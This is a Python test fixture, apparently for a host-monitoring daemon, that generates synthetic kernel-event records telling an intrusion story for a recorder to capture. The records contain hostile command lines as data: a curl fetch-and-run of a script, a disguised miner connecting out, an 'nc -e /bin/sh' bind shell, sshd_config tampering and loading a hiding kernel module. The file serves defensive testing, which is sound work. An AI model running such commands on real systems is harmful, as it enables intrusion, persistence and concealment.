# SPDX-License-Identifier: Apache-2.0 OR GPL-2.0-only
"""What happens on a machine in a few seconds of an intrusion, as records that a host publishes.

docs/howto/ten-questions.md tells the story. The ring gives each record its number and its time.
"""

import socket
import time
from collections.abc import Iterator
from ipaddress import ip_address
from pathlib import Path
from typing import Any

from _libosq import lib
from tests.subscriber.events import record_bytes
from tests.subscriber.host import Daemon, Host
from tests.subscriber.test_daemon import drained, subscribed

# Without file_paths, because this host publishes records of files that it does not watch.
RECORDS = ["exec", "fork", "exit", "socket", "file", "module", "cred"]
ALICE, UNSET = 1000, 0xFFFFFFFF
_NS_PER_S = 1_000_000_000
_SSHD, _LOGIN, _SHELL, _CURL, _SCRIPT, _MINER, _SUDO, _ROOT, _SED, _NC, _INSMOD = range(812, 823)
_PARENTS = {
    _SSHD: 1,
    _LOGIN: _SSHD,
    _SHELL: _LOGIN,
    _CURL: _SHELL,
    _SCRIPT: _SHELL,
    _MINER: _SCRIPT,
    _SUDO: _SHELL,
    _ROOT: _SUDO,
    _SED: _ROOT,
    _NC: _ROOT,
    _INSMOD: _ROOT,
}
_ALL_CAPABILITIES = (1 << 41) - 1


class Scene:
    """The records of the story, each process a minute younger than the one before.

    Half a minute is added, so that a slow test still sees the same whole minutes.
    """

    def __init__(self) -> None:
        self._now_ns = time.clock_gettime_ns(time.CLOCK_BOOTTIME)
        # The program of each process, and the inode number of each program.
        self._runs: dict[int, str] = {}
        self._inodes: dict[str, int] = {}

    def _start_ns(self, pid: int) -> int:
        return self._now_ns - (60 * (_INSMOD + 1 - pid) + 30) * _NS_PER_S

    def _of(self, pid: int) -> dict[str, Any]:
        """Return the head of a record of a process."""
        parent = _PARENTS[pid]
        ids = {"pid": pid, "tid": pid, "ppid": parent, "start_boot_ns": self._start_ns(pid)}
        start_ns = self._start_ns(parent) if parent in _PARENTS else 0
        program, above = self._file(self._runs.get(pid)), self._file(self._runs.get(parent))
        actor = {"program_dev": program[0], "program_ino": program[1]}
        actor |= {"parent_dev": above[0], "parent_ino": above[1]}
        return {**ids, "parent_start_boot_ns": start_ns, "actor": actor}

    def _file(self, path: str | None) -> tuple[int, int]:
        """Return device and inode of a program's file."""
        if path is None:
            return (0, 0)
        return (8 << 32, self._inodes.setdefault(path, 100 + len(self._inodes)))

    def fork(self, child: int) -> bytes:
        """Return the record of the parent that makes a process."""
        start_ns = self._start_ns(child)
        own: dict[str, Any] = {
            "child_pid": child,
            "child_tid": child,
            "child_start_boot_ns": start_ns,
        }
        return record_bytes("fork", **self._of(_PARENTS[child]), **own)

    def exec(
        self, pid: int, path: str, *arguments: bytes | str, uid: int = 0, **own: Any
    ) -> bytes:
        """Return the record of a program that a process starts."""
        self._runs[pid] = path
        dev, ino = self._file(path)
        raw = [one.encode() if isinstance(one, str) else one for one in arguments]
        argv = b"".join(one + b"\0" for one in raw)
        spans = {"path": path.encode(), "filename": path.encode(), "argv": argv, "cwd": b"/"}
        ids = dict.fromkeys(("uid", "euid", "suid", "fsuid", "gid", "egid", "sgid", "fsgid"), uid)
        auid = UNSET if pid <= _LOGIN else ALICE
        own = {
            "argc": len(raw),
            "argv_bytes": len(argv),
            "mode": 0o100755,
            "auid": auid,
            "dev": dev,
            "ino": ino,
            **own,
        }
        return record_bytes("exec", spans=spans, **self._of(pid), **{**ids, **own})

    def exit(self, pid: int, status: int = 0) -> bytes:
        """Return the record of the end of a process; the status is that of wait(2)."""
        return record_bytes("exit", **self._of(pid), status=status, last=1)

    def connect(self, pid: int, address: str, port: int, *, error: int = 0) -> bytes:
        """Return the record of a connect to an address of IPv4 or IPv6."""
        return self._socket(
            pid, lib.OSQ_SOCKET_CONNECT, remote=address, remote_port=port, error=error
        )

    def listen(self, pid: int, address: str, port: int) -> bytes:
        """Return the record of a listen."""
        return self._socket(pid, lib.OSQ_SOCKET_LISTEN, local=address, local_port=port)

    def _socket(
        self, pid: int, action: int, *, remote: str = "", local: str = "", **own: Any
    ) -> bytes:
        addresses: dict[str, Any] = {}
        for field, address in (("remote_addr", remote), ("local_addr", local)):
            if address:
                addresses[field] = ip_address(address).packed.ljust(16, b"\0")
        family = socket.AF_INET6 if ":" in remote + local else socket.AF_INET
        uid: dict[str, Any] = dict.fromkeys(("uid", "euid"), ALICE if _LOGIN < pid < _SUDO else 0)
        status = lib.OSQ_SOCKET_FAILED if own.get("error") else lib.OSQ_SOCKET_SUCCEEDED
        own = {"action": action, "status": status, "family": family, "protocol": 6, **own}
        return record_bytes("socket", **self._of(pid), **uid, **addresses, **own)

    def file(self, pid: int, action: int, path: str, to: str = "") -> bytes:
        """Return the record of a change of a watched file by root."""
        spans = {"path": path.encode(), "dest_path": to.encode()}
        return record_bytes("file", spans=spans, **self._of(pid), action=action, mode=0o100644)

    def rise(self, pid: int, path: str) -> bytes:
        """Return the record of alice's process that becomes root by a setuid program.

        As in the kernel, it comes before the record of the exec, and the process runs the program.
        """
        self._runs[pid] = path
        alice = dict.fromkeys(("uid", "euid", "suid", "fsuid"), ALICE)
        root = {"uid": ALICE, "permitted": _ALL_CAPABILITIES, "effective": _ALL_CAPABILITIES}
        changed = lib.OSQ_CRED_UIDS | lib.OSQ_CRED_CAPS
        own: dict[str, Any] = {"action": lib.OSQ_CRED_EXEC, "changed": changed, "auid": ALICE}
        return record_bytes("cred", **self._of(pid), **own, old=alice, now=root)

    def module(self, pid: int, name: bytes, taints: int) -> bytes:
        """Return the record of a kernel module that is about to be initialised."""
        own = {"action": lib.OSQ_MODULE_LOADING, "taints": taints, "size_bytes": 16384}
        return record_bytes("module", spans={"name": name}, **self._of(pid), **own)

    def records(self) -> Iterator[bytes]:
        """Yield the story: alice logs in, fetches a script, becomes root, and hides."""
        yield self.exec(_SSHD, "/usr/sbin/sshd", "sshd: /usr/sbin/sshd -D [listener]")
        yield self.listen(_SSHD, "::", 22)
        yield self.fork(_LOGIN)
        yield self.fork(_SHELL)
        yield self.exec(_SHELL, "/usr/bin/bash", "-bash", uid=ALICE)
        yield from self._fetch()
        yield from self._become_root()
        yield self.exit(_SHELL)

    def _fetch(self) -> Iterator[bytes]:
        yield self.fork(_CURL)
        url = "http://203.0.113.9/a.sh"
        yield self.exec(_CURL, "/usr/bin/curl", "curl", "-so", "/tmp/a.sh", url, uid=ALICE)
        yield self.connect(_CURL, "2001:db8::9", 80, error=111)
        yield self.connect(_CURL, "203.0.113.9", 80)
        yield self.exit(_CURL)
        yield self.fork(_SCRIPT)
        yield self.exec(_SCRIPT, "/usr/bin/dash", "sh", "/tmp/a.sh", b"\xe9t\xe9", uid=ALICE)
        yield self.fork(_MINER)
        flags = lib.OSQ_FLAG_MEMFD | lib.OSQ_FLAG_DELETED
        yield self.exec(_MINER, "/memfd:kworker", "[kworker/0:1]", uid=ALICE, flags=flags)
        for port in (3333, 3333, 4444):
            yield self.connect(_MINER, "198.51.100.7", port)
        yield self.exit(_MINER, 9)
        yield self.exit(_SCRIPT, 1 << 8)

    def _become_root(self) -> Iterator[bytes]:
        yield self.fork(_SUDO)
        yield self.rise(_SUDO, "/usr/bin/sudo")
        yield self.exec(_SUDO, "/usr/bin/sudo", "sudo", "-i", uid=ALICE, euid=0, suid=0, fsuid=0)
        yield self.fork(_ROOT)
        yield self.exec(_ROOT, "/usr/bin/bash", "-bash")
        yield self.fork(_SED)
        yield self.exec(_SED, "/usr/bin/sed", "sed", "-i", "s/no/yes/", "/etc/ssh/sshd_config")
        yield self.file(_SED, lib.OSQ_FILE_CREATE, "/etc/ssh/sedXyZ12a")
        yield self.file(_SED, lib.OSQ_FILE_RENAME, "/etc/ssh/sedXyZ12a", "/etc/ssh/sshd_config")
        yield self.exit(_SED)
        yield self.fork(_NC)
        yield self.exec(_NC, "/usr/bin/nc", "nc", "-lp", "4444", "-e", "/bin/sh")
        yield self.listen(_NC, "0.0.0.0", 4444)  # noqa: S104 - an address in a record
        yield self.fork(_INSMOD)
        yield self.exec(_INSMOD, "/usr/sbin/insmod", "insmod", "/dev/shm/hide.ko")
        yield self.module(_INSMOD, b"hide", 1 << 12 | 1 << 13)
        yield self.exit(_INSMOD)
        yield self.exit(_SUDO)


def record(host: Host, folder: Path, *more: bytes) -> Path:
    """Have a daemon record the scene, and further records, from a host; return its store."""
    with Daemon(host, folder, {"records": RECORDS}) as daemon:
        subscribed(daemon)
        host.publish(*Scene().records(), *more)
        drained(host)
        assert daemon.stop() == 0
    return daemon.store
